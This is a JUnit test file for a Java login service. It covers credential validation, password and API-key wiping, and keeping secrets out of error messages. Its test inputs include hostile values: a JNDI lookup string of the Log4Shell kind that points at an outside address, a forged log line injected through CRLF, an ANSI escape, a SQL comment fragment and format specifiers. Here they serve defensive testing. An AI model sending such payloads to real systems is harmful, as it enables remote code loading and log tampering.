package org.tokenfilter.login;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIOException;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;
import static org.mockito.Mockito.mock;

import com.github.benmanes.caffeine.cache.Ticker;
import jakarta.servlet.http.HttpServletRequest;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.tokenfilter.credentials.ApiKeyCredential;
import org.tokenfilter.credentials.Authenticator;
import org.tokenfilter.credentials.UsernamePasswordCredential;
import org.tokenfilter.token.ClientAddress;
import org.tokenfilter.token.Rejection;
import org.tokenfilter.token.Subject;
import org.tokenfilter.token.TokenRejectedException;

/** All logins: the calls of the authenticator, and the wiping of the password. */
class LoginServiceTest {

  private static final ClientAddress CLIENT = ClientAddress.parse("127.0.0.1");

  private final HttpServletRequest request = mock(HttpServletRequest.class);
  private final List<String> credentialsSeen = new ArrayList<>();
  private final LoginService loginService =
      serviceWith(
          credential -> {
            credentialsSeen.add(credential.username() + ":" + new String(credential.password()));
            return new String(credential.password()).equals("right")
                ? Optional.of(Subject.of(credential.username()))
                : Optional.empty();
          });

  private static LoginService serviceWith(Authenticator authenticator) {
    LoginThrottle patient = new LoginThrottle(1_000, Duration.ofMinutes(5), Ticker.systemTicker());
    return new LoginService(
        authenticator,
        patient,
        new LoginService.Capacity(4, 8),
        (username, refused, client) -> {},
        new SecureRandom(),
        Ticker.systemTicker());
  }

  @Test
  void acceptsRightPassword() throws Exception {
    assertThat(loginService.login(login("alice", "right"), CLIENT)).isEqualTo(Subject.of("alice"));
    assertThat(loginService.loginWithBasic(basic("alice:right"), request, CLIENT))
        .isEqualTo(Subject.of("alice"));
    assertThat(credentialsSeen).containsExactly("alice:right", "alice:right");
  }

  @Test
  void refusesWrongPassword() {
    assertWrongCredentials(() -> loginService.login(login("alice", "wrong"), CLIENT));
    assertWrongCredentials(
        () -> loginService.loginWithBasic(basic("alice:wrong"), request, CLIENT));
  }

  /** Cases L01 and L02. */
  @TestFactory
  Stream<DynamicTest> refusesMalformedBasicWithoutQuery() {
    return Stream.of("", "!!!!", basic("alice"), basic(":"), basic("alice:"), basic(":right"))
        .map(
            credentials ->
                DynamicTest.dynamicTest(
                    '"' + credentials + '"',
                    () -> {
                      assertWrongCredentials(
                          () -> loginService.loginWithBasic(credentials, request, CLIENT));
                      assertThat(credentialsSeen).isEmpty();
                    }));
  }

  @Test
  void refusesMissingCredentials() {
    assertWrongCredentials(() -> loginService.loginWithBasic(null, request, CLIENT));
    assertThat(credentialsSeen).isEmpty();
  }

  /** Case L03. */
  @TestFactory
  Stream<DynamicTest> refusesImpossibleNames() {
    return Stream.of(
            "",
            "al\u0000ice",
            "alice\u0000",
            "al\rice",
            "al\nice",
            "al\r\n2026-03-01 INFO log-in of admin",
            "al\tice",
            "al\u007fice",
            "al\u0085ice",
            "\u001b[2Jalice",
            "a".repeat(256),
            "a".repeat(8192))
        .map(
            name ->
                DynamicTest.dynamicTest(
                    "of " + name.length() + " characters",
                    () -> {
                      assertWrongCredentials(
                          () -> loginService.login(login(name, "right"), CLIENT));
                      assertThat(credentialsSeen).isEmpty();
                    }));
  }

  /** Case L12: names reach the authenticator unchanged, which compares them. */
  @Test
  void namesReachTheAuthenticatorAsTheyWereSent() throws Exception {
    List<String> names =
        List.of(
            "a".repeat(255),
            " alice ",
            "ALICE",
            "u\u0308",
            "\u00fc",
            "\uff21",
            "admin\u200b",
            "\u202eecila",
            "'--",
            "${jndi:ldap://192.0.2.1/a}",
            "%n%s",
            "\ud83d\ude00");
    for (String name : names) {
      assertThat(loginService.login(login(name, "right"), CLIENT).name()).isEqualTo(name);
    }
    assertThat(credentialsSeen).isEqualTo(names.stream().map(name -> name + ":right").toList());
  }

  /** Case L13. */
  @Test
  void doesNotCheckEmptyOrTooLongPassword() throws Exception {
    assertWrongCredentials(() -> loginService.login(login("alice", ""), CLIENT));
    assertWrongCredentials(() -> loginService.login(login("alice", "p".repeat(1025)), CLIENT));
    assertWrongCredentials(() -> loginService.login(login("alice", "p".repeat(65_536)), CLIENT));
    assertThat(credentialsSeen).isEmpty();

    assertWrongCredentials(() -> loginService.login(login("alice", "p".repeat(1024)), CLIENT));
    assertThat(credentialsSeen).containsExactly("alice:" + "p".repeat(1024));
  }

  /** RFC 7617, 2 and RFC 8265, 4.2; PBKDF2 would confuse some of them (RFC 2104, 2). */
  @TestFactory
  Stream<DynamicTest> refusesImpossiblePasswords() {
    return Stream.of("right\u0000", "ri\nght", "\u007f", "right\ud800", "\udc00\ud800", "\ud800")
        .map(
            password ->
                DynamicTest.dynamicTest(
                    "of " + password.length() + " characters",
                    () -> {
                      assertWrongCredentials(
                          () -> loginService.login(login("alice", password), CLIENT));
                      assertThat(credentialsSeen).isEmpty();
                    }));
  }

  @Test
  void refusesNameWithHalfASurrogatePair() {
    assertWrongCredentials(() -> loginService.login(login("al\ud800ice", "right"), CLIENT));
    assertThat(credentialsSeen).isEmpty();
  }

  @Test
  void otherPasswordsReachTheAuthenticatorAsTheyWereSent() {
    List<String> passwords =
        List.of(" ", "\u00a0", "\u00fc", "u\u0308", "\ud83d\ude00", ":", "\u200b", "?");
    for (String password : passwords) {
      assertWrongCredentials(() -> loginService.login(login("alice", password), CLIENT));
    }
    assertThat(credentialsSeen)
        .isEqualTo(passwords.stream().map(password -> "alice:" + password).toList());
  }

  @Test
  void wipesPasswordAfterEveryOutcome() throws Exception {
    UsernamePasswordCredential right = login("alice", "right");
    UsernamePasswordCredential wrong = login("alice", "wrong");
    UsernamePasswordCredential impossible = login("", "right");
    UsernamePasswordCredential failing = login("alice", "right");
    LoginService broken =
        serviceWith(
            credential -> {
              throw new IOException("the directory is down");
            });

    loginService.login(right, CLIENT);
    assertWrongCredentials(() -> loginService.login(wrong, CLIENT));
    assertWrongCredentials(() -> loginService.login(impossible, CLIENT));
    assertThatIOException().isThrownBy(() -> broken.login(failing, CLIENT));

    for (UsernamePasswordCredential credential : List.of(right, wrong, impossible, failing)) {
      assertThat(credential.password()).containsOnly('\0').hasSize(5);
    }
  }

  /** Case L26. */
  @Test
  void failureOfTheAuthenticatorIsNoRefusal() {
    LoginService unreachable =
        serviceWith(
            credential -> {
              throw new IOException("the directory is down");
            });
    LoginService failing =
        serviceWith(
            credential -> {
              throw new IllegalStateException("a defect");
            });

    assertThatIOException().isThrownBy(() -> unreachable.login(login("alice", "right"), CLIENT));
    assertThatIllegalStateException()
        .isThrownBy(() -> failing.login(login("alice", "right"), CLIENT));
  }

  @Test
  void apiKeyReachesTheAuthenticatorUnchangedAndIsWiped() throws Exception {
    List<String> keys = new ArrayList<>();
    LoginService loginService =
        serviceWith(
            new Authenticator() {
              @Override
              public Optional<Subject> authenticate(UsernamePasswordCredential credential) {
                throw new AssertionError("a key is no login");
              }

              @Override
              public Optional<Subject> authenticateKey(ApiKeyCredential key) throws IOException {
                keys.add(new String(key.value()));
                if (key.value()[0] == '!') {
                  throw new IOException("the directory is down");
                }
                return key.value()[0] == 'r' ? Optional.of(Subject.of("feed")) : Optional.empty();
              }
            });
    char[] right = "right".toCharArray();
    assertThat(loginService.loginWithApiKey(new ApiKeyCredential(right, request), CLIENT))
        .isEqualTo(Subject.of("feed"));
    assertThat(right).containsOnly('\0');
    for (String wrong : List.of("wrong", "", "r\0", "r\ud83d", "r".repeat(1025))) {
      char[] key = wrong.toCharArray();
      assertWrongCredentials(
          () -> loginService.loginWithApiKey(new ApiKeyCredential(key, request), CLIENT));
      assertThat(new String(key)).isEqualTo("\0".repeat(key.length));
    }
    assertThatIOException()
        .isThrownBy(
            () ->
                loginService.loginWithApiKey(
                    new ApiKeyCredential("!".toCharArray(), request), CLIENT));
    assertThat(keys).containsExactly("right", "wrong", "!");
    assertWrongCredentials(
        () ->
            this.loginService.loginWithApiKey(
                new ApiKeyCredential("right".toCharArray(), request), CLIENT));
  }

  /** Case L26: otherwise, the answer would distinguish an unknown user from a wrong password. */
  @Test
  @SuppressWarnings({"NullAway", "OptionalAssignedToNull"}) // a defective authenticator
  void authenticatorThatReturnsNullRefuses() {
    LoginService forgetful = serviceWith(credential -> null);

    assertWrongCredentials(() -> forgetful.login(login("nobody", "right"), CLIENT));
  }

  /** Case P04. */
  @Test
  void toStringShowsNoSecret() {
    assertThat(login("alice", "right")).hasToString("Login[]");
    assertThat(new ApiKeyCredential("right".toCharArray(), request))
        .hasToString("ApiKeyCredential[]");
  }

  private UsernamePasswordCredential login(String username, String password) {
    return new UsernamePasswordCredential(username, password.toCharArray(), request);
  }

  private static String basic(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private static void assertWrongCredentials(ThrowingCallable logIn) {
    assertThatExceptionOfType(TokenRejectedException.class)
        .isThrownBy(logIn)
        .satisfies(e -> assertThat(e.rejection()).isEqualTo(Rejection.WRONG_CREDENTIALS))
        .satisfies(e -> assertThat(e.detail()).doesNotContain("right", "wrong:", "alice"));
  }
}
